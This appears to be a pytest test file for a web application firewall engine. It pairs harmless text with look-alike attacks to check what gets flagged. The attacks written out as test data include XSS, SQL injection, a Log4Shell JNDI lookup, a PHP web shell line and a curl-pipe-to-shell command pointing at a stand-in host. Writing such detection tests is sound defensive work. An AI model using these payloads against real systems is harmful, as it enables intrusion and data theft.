"""What pages and programs hold that does nothing, each beside an attack that looks like it."""

from __future__ import annotations

import time

import pytest

from bascule.waf.logic.body_values import request_values
from bascule.waf.logic.engine import Logic
from bascule.waf.logic.facts.compiles import compiles_nowhere, is_no_sql
from bascule.waf.logic.facts.idle import without_idle
from bascule.waf.logic.values import Value

_PICTURE = (
    b".a { background: url(\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M1'/></svg>\") }"
)
_POST = b'<p>Our film:</p><script async src="//%b"></script><p>Have fun, all of you.</p>'
_REPORT = b'{"csp-report": {"document-uri": "https://a.example/", "script-sample": "%b"}}'
_CHAT = b'{"messages": [{"role": "user", "content": "%b"}]}'
_JSON = [(b"content-type", b"application/json")]


@pytest.fixture(scope="module")
def logic() -> Logic:
    return Logic.load("standard")


@pytest.mark.parametrize(
    ("honest", "attack"),
    [
        (b'<a href="/a" onclick="window.open(this.href); return false">x</a>', b'<a href="/a" onclick="open(this.href);a()">x</a>'),
        (b'<p><img src="/a.png" onload="" onerror="this.src=\'b.png\'"></p>', b'<p><img src="/a" onload="" onerror="this.src=alert(1)"></p>'),
        (b'<p><img src="/a.png" onerror="this.onerror=null">', b'<p><img src="/a.png" a=" onerror="" onerror=alert(1) b=""></p>'),
        (b"<p onclick='return false'>Yes</p>", b"<p onclick='return false'onfocus=alert(1)>Yes</p>"),
        (_PICTURE, _PICTURE.replace(b"<path", b"<path onload=alert(1)")),
        (_PICTURE, _PICTURE.replace(b"<path", b"</style><iframe src=//a.example><path")),
        (_POST % b"platform.twitter.com/widgets.js", _POST % b"platform.twitter.com.example.org/widgets.js"),
        (_POST % b"gist.github.com/anne/0a1b.js", _POST % b"gist.github.com/anne/raw/0a1b.js"),
        (b"alert() css", b"alert(1)"),
        (b"Is alert() gone, or does eval(x) still work here?", b"x'; alert(1); var y='Is it gone"),
        (b"I use <script> tags, but alert() doesn't work, why?", b"I use <script>alert(1)</script> tags, why?"),
        (b"what does <script> do or not", b"what does <script>do alert(1) while(0)"),
        (b"python os.system vs subprocess", b"os.system('id')"),
        (b"phpinfo() blank page", b"phpinfo()"),
        (b'My <a onclick="toggleMenu(this, \'top\')">menu</a> is slow', b'My <a onclick="toggleMenu(this, \'\'+alert(1))">menu</a>'),
        (b"<Button onClick={() => setOpen(true)}>Open</Button>", b"<Button onClick={alert(1)}>Open</Button>"),
        (b"information_schema.tables is empty for my user", b"x' union select 1 from information_schema.tables where '1"),
        (b"substring(name, 1, 3) returns the first letters", b"1 and substring(name, 1, 3) = 'abc'"),
        (b"sys.objects doesn't list it", b"1 or exists(select 1 from sys.objects)"),
        (b"xp_cmdshell is disabled, how do I enable it?", b"exec xp_cmdshell 'dir' --is off for me here"),
        (b"db.users.find({age: {$gt: 18}}) takes much time", b"db.users.find({age: {$gt: 18}})"),
        (b"while(true) never ends, for(;;) neither", b"'; while(true){}; var a='"),
        (b"HTTP/1.1 500 Internal Server Error - what can I do?", b"HTTP/1.1 200 OK\r\nSet-Cookie: a=b"),
        (b"constructor.prototype explained", b"constructor.prototype.admin"),
        (b"http://192.168.0.1 is my router but I can't log in", b"http://192.168.0.1"),
        (b".env file with DB_PASSWORD isn't read", b".env"),
        (b"Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON", b"Unexpected token '<', \"<!DOCTYPE \"... or 1=1"),
        (b"Uncaught SyntaxError: Unexpected token '='", b"'='"),
        (b"unexpected token '&' (did you mean '&&'?)", b"unexpected token '&' or sleep(5) or '&&'"),
        (b"bad operator '||' near '='", b"bad operator '||' near '=' union select password from users--"),
        (b"Expected ',' or '}' after property value in JSON", b"Expected '=' or 1=1 -- in JSON"),
    ],
)  # fmt: skip
def test_what_does_nothing_is_spared_and_what_acts_is_found(logic: Logic, honest: bytes, attack: bytes) -> None:
    assert logic.judge([Value("body", b"item", honest)]) == []
    assert logic.judge([Value("body", b"item", attack)])


@pytest.mark.parametrize(
    ("body", "refused"),
    [
        (_REPORT % b"document.write('<script src=//a.example>", False),
        (_REPORT.replace(b"script-sample", b"comment") % b"document.write('<script src=//a.example>", True),
        (_REPORT % (b"<script>alert(1)</script>" * 9), True),
        (_CHAT % b"Explain the difference between ' OR 1=1 -- and a prepared statement", False),
        (_CHAT % b"Explain what curl https://a.example/x.sh | sh does to my machine", True),
        (_CHAT % b"' OR 1=1 -- ", True),
        (_CHAT.replace(b"messages", b"users") % b"Explain the difference between ' OR 1=1 -- and a statement", True),
    ],
)
def test_fields_of_browsers_and_chats(logic: Logic, body: bytes, refused: bool) -> None:
    assert bool(logic.judge(request_values(b"/api", _JSON, body))) is refused


@pytest.mark.parametrize(
    ("name", "content", "refused"),
    [
        (b"notes.md", b"# Notes\n\n`rm -rf /tmp/x`\n\n<script>alert(1)</script> in a page\n", False),
        (b"notes.md", b"# Notes\n\n<?php system($_GET['c']); ?>\n\n", True),
        (b"notes.md", b"<script>alert(1)</script>", True),
        (b"notes", b"\n\n<script>alert(1)</script>\n", True),
    ],
)
def test_a_file_of_lines_is_kept_as_what_it_is_called(logic: Logic, name: bytes, content: bytes, refused: bool) -> None:
    body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="%b"\r\nContent-Type: text/markdown\r\n\r\n%b\r\n--b--\r\n'
    head = [(b"content-type", b"multipart/form-data; boundary=b")]
    assert bool(logic.judge(request_values(b"/up", head, body % (name, content)))) is refused


@pytest.mark.parametrize(
    ("referer", "refused"),
    [
        (b"https://a.example:8443/b?c=d", False),
        (b"android-app://com.example.mail/", False),
        (b"${${::-j}${::-n}${::-d}${::-i}:ldap://a.example/z}", True),
        (b"https://<script>alert(1)</script>/", True),
    ],
)
def test_of_a_referer_only_an_origin_is_left_out(logic: Logic, referer: bytes, refused: bool) -> None:
    assert bool(logic.judge(request_values(b"/", [(b"referer", referer)], b""))) is refused


@pytest.mark.parametrize(
    "text",
    [b"(system)(ls)", b"{%print(1)%}", b"1; return true", b"document.location='http://a.example/'", b"import('//a.example')"],
)  # fmt: skip
def test_short_values_that_only_act(logic: Logic, text: bytes) -> None:
    assert logic.judge([Value("query", b"q", text)])


@pytest.mark.parametrize(
    ("text", "nowhere"),
    [
        (b"in short: use a sum", True),
        (b"if(a) alert(1)", False),
        (b"x)alert(1", False),
        (b"a in b; alert(1)", False),
        (b"words of people\nalert(1)", False),
        (b"alert(1)\nmany other words", True),
        (b"alert(1) // words of people", False),
        (b"words' + alert(1) + '", False),
        (b"words of people \\u0061lert(1)", False),
        (b"x = /words of people/.source", False),
        (b"alert(1)\n'''\nwords of people", False),
        (b"words " * 1000, False),
    ],
)
def test_what_no_compiler_takes(text: bytes, nowhere: bool) -> None:
    assert compiles_nowhere(text) is nowhere


@pytest.mark.parametrize(
    ("text", "none"),
    [
        (b"select the biggest lamp and then drop it", True),
        (b"x' is what my user types in the form", True),
        (b"x' or name is null and '1", False),
        (b"1 union select group_concat(name separator 0x3a) from users", False),
        (b"1; drop table users; words of many people", False),
        (b"1 or 1=1 -- words of many people", False),
        (b"x' or 1=1 union select a as first from users where 'many words'='many words", False),
        (b"select a b, c d from e f", False),
        (b"1 union select a as [many other plain words] from b", False),
        (b"1 or $$many other plain words$$=$a$many other plain words$a$", False),
        (b"words " * 1000, False),
    ],
)
def test_what_no_statement_takes(text: bytes, none: bool) -> None:
    assert is_no_sql(text) is none


def test_a_text_of_many_lines_is_not_read_from_each(logic: Logic) -> None:
    logic.judge([Value("body", b"warm", b"up")])
    began = time.process_time()
    logic.judge([Value("body", b"a", b"alert(1)" + b"\na" * 1000 + b"\nb c d")])
    assert time.process_time() - began < 0.1


@pytest.mark.parametrize(
    "part", [b"url(data:image/png,", b"{{a|b ", b' onabc="return;', b" onabc={(a, ", b"ab ab '<' ", b" or ", b"a '<"]
)
def test_what_begins_again_and_again_is_read_once(part: bytes) -> None:
    found = {"sql.fingerprint", "html.event_handler", "html.style_script", "shell.command_after_separator"}
    began = time.process_time()
    without_idle(found, part * (65536 // len(part)))
    assert time.process_time() - began < 0.1
